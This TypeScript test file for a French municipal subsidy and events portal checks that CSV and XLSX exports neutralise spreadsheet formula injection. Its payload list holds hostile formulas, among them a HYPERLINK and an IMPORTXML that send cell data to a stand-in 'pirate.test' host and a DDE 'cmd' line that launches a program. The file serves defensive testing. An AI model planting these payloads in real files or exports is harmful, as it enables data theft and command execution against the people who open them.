// Every CSV and XLSX the portal writes, produced from hostile names stored in the database
// (as older data may hold them: the forms refuse them now) and parsed back: no text cell may
// start as a formula, no XLSX cell may be a formula, amounts stay numbers, and the SCDL
// open-data file stays valid against the official schema.
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { strFromU8, unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createAssociation } from "../../prisma/factories/association";
import { createCall } from "../../prisma/factories/call";
import { createDossier } from "../../prisma/factories/dossier";
import { createEvent, createRegistration } from "../../prisma/factories/event";
import { createUser } from "../../prisma/factories/user";
import { csvErrors, readJsonFixture, type TableSchema } from "../../tests/table-schema";

const { prisma } = await import("../db.server");
const subsidies = {
  ...(await import("../subsidies/creation.server")),
  ...(await import("../subsidies/vote.server")),
  ...(await import("../subsidies/payments.server")),
};
const reporting = { ...(await import("../subsidies/exports.server")), ...(await import("../subsidies/open-data.server")) };
const review = await import("../review/exports.server");
const { invalidateReferenceData } = await import("../settings/reference-cache.server");
const events = await import("../events/exports.server");

// OWASP's leading characters, also behind blanks and in full-width form. Each is a name.
const PAYLOADS = [
  '=HYPERLINK("https://pirate.test/?d="&A2,"Cliquez")',
  "+33+1",
  "-1+2",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=2+2",
  "  =cmd|' /C calc'!A0",
  "\u00a0-2+3",
  "＝3+3",
];

/** Independent of the sanitiser: what a spreadsheet would take for the start of a formula. */
function runsAsFormula(cell: string): boolean {
  if (/^[+-]?\d+(?:[.,]\d+)?$/.test(cell)) return false;
  return /^[\t\r\n]/.test(cell) || /^[\s\u00a0\u3000]*[=+\-@＝＋－＠]/.test(cell);
}

function expectNoFormulaCell(rows: string[][], where: string) {
  for (const row of rows) for (const cell of row) expect(runsAsFormula(cell), `${where}: ${JSON.stringify(cell)}`).toBe(false);
}

/** Each payload comes back whole, after the neutralising quote. */
function expectPayloadsKept(rows: string[][], where: string) {
  const cells = new Set(rows.flat());
  for (const payload of PAYLOADS) expect(cells.has(`'${payload}`), `${where}: ${JSON.stringify(payload)}`).toBe(true);
}

async function readXlsx(bytes: Uint8Array) {
  // The sheets' XML: no <f> element, whatever exceljs's reading of it says.
  const files = unzipSync(new Uint8Array(bytes));
  for (const [name, content] of Object.entries(files)) {
    if (name.startsWith("xl/worksheets/") && name.endsWith(".xml")) expect(strFromU8(content), name).not.toMatch(/<f[\s>]/);
  }
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as never);
  const sheets = new Map<string, ExcelJS.Cell[][]>();
  workbook.eachSheet((sheet) => {
    const rows: ExcelJS.Cell[][] = [];
    sheet.eachRow((row) => {
      const cells: ExcelJS.Cell[] = [];
      row.eachCell((cell) => cells.push(cell));
      rows.push(cells);
    });
    sheets.set(sheet.name, rows);
  });
  return sheets;
}

function expectXlsxTextCells(rows: ExcelJS.Cell[][], where: string) {
  const texts = new Set<string>();
  for (const cell of rows.flat()) {
    expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number, ExcelJS.ValueType.Date], `${where} ${cell.address}`).toContain(cell.type);
    if (cell.type === ExcelJS.ValueType.String) texts.add(String(cell.value).replace(/\r\n?/g, "\n"));
  }
  // Written as plain strings: the text is there as typed (XML turns a lone CR into LF).
  for (const payload of PAYLOADS) expect(texts.has(payload.replace(/\r/g, "\n")), `${where}: ${JSON.stringify(payload)}`).toBe(true);
}

let admin: { id: string; role: "admin"; name: string };
let callId: string;
let eventId: string;
const subsidyIds: string[] = [];

beforeAll(async () => {
  const user = await createUser(prisma, { role: "admin", passwordHash: "!" });
  admin = { id: user.id, role: "admin", name: user.name };
  const call = await createCall(prisma, {
    title: '=IMPORTXML(CONCAT("https://pirate.test/",A1),"//a")',
    requiredAttachments: [],
    maxAmountCents: 20_000_00,
  });
  callId = call.id;
  const event = await createEvent(prisma, { title: "-Atelier=1+1", capacity: 100 });
  eventId = event.id;
  let n = 0;
  for (const payload of PAYLOADS) {
    n += 1;
    const association = await createAssociation(prisma, { name: payload });
    const dossier = await createDossier(prisma, {
      callId,
      associationId: association.id,
      state: "accepte",
      requestedCents: 5_000_00,
      title: payload,
    });
    await prisma.dossier.update({ where: { id: dossier.id }, data: { proposedCents: 4_000_00 + n, decisionReason: payload } });
    const subsidy = await subsidies.createSubsidyFromDossier(dossier.id, admin);
    await subsidies.recordVote(
      subsidy.id,
      { decisionDate: "2026-03-20", deliberationRef: payload.slice(0, 60), yearAmounts: [4_000_00 + n] },
      admin,
    );
    await subsidies.setSchedule(subsidy.id, [{ kind: "solde", amountCents: 4_000_00 + n, plannedDate: "2026-05-02" }], admin);
    const [instalment] = await prisma.instalment.findMany({ where: { subsidyId: subsidy.id } });
    await subsidies.recordPayment(subsidy.id, { instalmentId: instalment.id, paidAt: "2026-05-02", amountCents: 4_000_00 + n }, admin);
    subsidyIds.push(subsidy.id);
    await createRegistration(prisma, {
      eventId,
      associationId: association.id,
      name: payload,
      email: `p${n}@exemple.test`,
      role: payload,
      status: n % 2 ? "confirmee" : "liste_attente",
      waitlistPosition: n % 2 ? null : n,
    });
    await prisma.registration.updateMany({ where: { eventId, email: `p${n}@exemple.test` }, data: { accessibilityNeeds: payload } });
  }
  // A purpose at the schema's 256-character limit: the quote must not push it over.
  const long = await subsidies.createGrant(
    {
      associationId: (await createAssociation(prisma)).id,
      purpose: `=${"x".repeat(255)}`,
      amount: 1_000_00,
      financialYear: 2026,
      fundsAction: false,
    },
    admin,
  );
  await subsidies.recordVote(long.id, { decisionDate: "2026-03-20", deliberationRef: "CA-LONG", yearAmounts: [1_000_00] }, admin);
});

afterAll(async () => {
  await prisma.$disconnect();
});

describe("CSV exports", () => {
  it("the call's dossier export (review)", async () => {
    const keys = review.EXPORT_COLUMNS.map((c) => c.key);
    const file = await review.exportCallDossiers(admin, callId, "csv", keys);
    const rows = parse(file.body.toString("utf8"), { bom: true, delimiter: ";" }) as string[][];
    expect(rows.length).toBe(PAYLOADS.length + 1);
    expectNoFormulaCell(rows, "dossiers.csv");
    expectPayloadsKept(rows, "dossiers.csv");
  });

  it("the staff subsidy and payment exports", async () => {
    for (const kind of ["subventions", "versements"] as const) {
      const rows = parse(await reporting.exportCsv(kind), { bom: true, delimiter: ";" }) as string[][];
      expectNoFormulaCell(rows, `${kind}.csv`);
      expectPayloadsKept(rows, `${kind}.csv`);
    }
  });

  it("the event's attendee export", async () => {
    const rows = parse(await events.exportCsv(eventId), { bom: true, delimiter: ";" }) as string[][];
    expect(rows.length).toBe(PAYLOADS.length + 1);
    expectNoFormulaCell(rows, "inscrits.csv");
    expectPayloadsKept(rows, "inscrits.csv");
  });

  it("the SCDL open-data file, still valid against the official schema 2.1.1", async () => {
    // The file is published once the CCAS's SIRET is configured (the template database has none).
    await prisma.portalSettings.update({ where: { id: "ccas" }, data: { siret: "21250056500008" } });
    invalidateReferenceData();
    const file = await reporting.scdlFile();
    if (!file.published) throw new Error("fichier des subventions non publié");
    const csv = file.csv;
    const rows = parse(csv, { delimiter: "," }) as string[][];
    expectNoFormulaCell(rows, "subventions.csv");
    const records = parse(csv, { columns: true, delimiter: "," }) as Record<string, string>[];
    const ours = records.filter((r) => PAYLOADS.some((p) => r.nomBeneficiaire === `'${p}`));
    expect(ours).toHaveLength(PAYLOADS.length);
    // The purpose is the trimmed project title: its quote comes first all the same.
    expect(ours.every((r) => PAYLOADS.some((p) => r.objet === `'${p.trim()}`))).toBe(true);
    expect(ours.every((r) => Number(r.montant) > 0)).toBe(true);
    expect(csvErrors(readJsonFixture<TableSchema>("scdl-subventions-2.1.1/schema.json"), csv)).toEqual([]);
  });
});

describe("XLSX exports", () => {
  it("the call's dossier export (review)", async () => {
    const keys = review.EXPORT_COLUMNS.map((c) => c.key);
    const file = await review.exportCallDossiers(admin, callId, "xlsx", keys);
    const sheets = await readXlsx(file.body);
    expectXlsxTextCells(sheets.get("Dossiers")!, "dossiers.xlsx");
  });

  it("the staff subsidy workbook, amounts still numbers", async () => {
    const sheets = await readXlsx(await reporting.exportXlsx());
    for (const name of ["Subventions", "Versements"]) expectXlsxTextCells(sheets.get(name)!, `subventions.xlsx ${name}`);
    const [header, ...rows] = sheets.get("Subventions")!;
    const voted = header.findIndex((c) => c.value === "Montant voté (€)");
    const numbers = (await prisma.subsidy.findMany({ where: { id: { in: subsidyIds } }, select: { number: true } })).map((x) => x.number);
    const ours = rows.filter((r) => numbers.includes(String(r[0].value)));
    expect(ours).toHaveLength(PAYLOADS.length);
    for (const r of ours) expect(r[voted].type).toBe(ExcelJS.ValueType.Number);
  });

  it("the event's attendee workbook", async () => {
    const sheets = await readXlsx(await events.exportXlsx(eventId, "-Atelier=1+1"));
    expectXlsxTextCells(sheets.get("Inscrits")!, "inscrits.xlsx");
  });

  it("names the CCAS of the settings as the workbooks' author", async () => {
    await prisma.portalSettings.update({ where: { id: "ccas" }, data: { name: "CCAS de Dole" } });
    invalidateReferenceData();
    try {
      const workbooks = [
        (await review.exportCallDossiers(admin, callId, "xlsx", ["numero"])).body,
        await reporting.exportXlsx(),
        await events.exportXlsx(eventId, "Atelier"),
      ];
      for (const bytes of workbooks) {
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load(bytes as never);
        expect(workbook.creator).toBe("CCAS de Dole");
      }
    } finally {
      await prisma.portalSettings.update({ where: { id: "ccas" }, data: { name: "CCAS de Besançon" } });
      invalidateReferenceData();
    }
  });
});
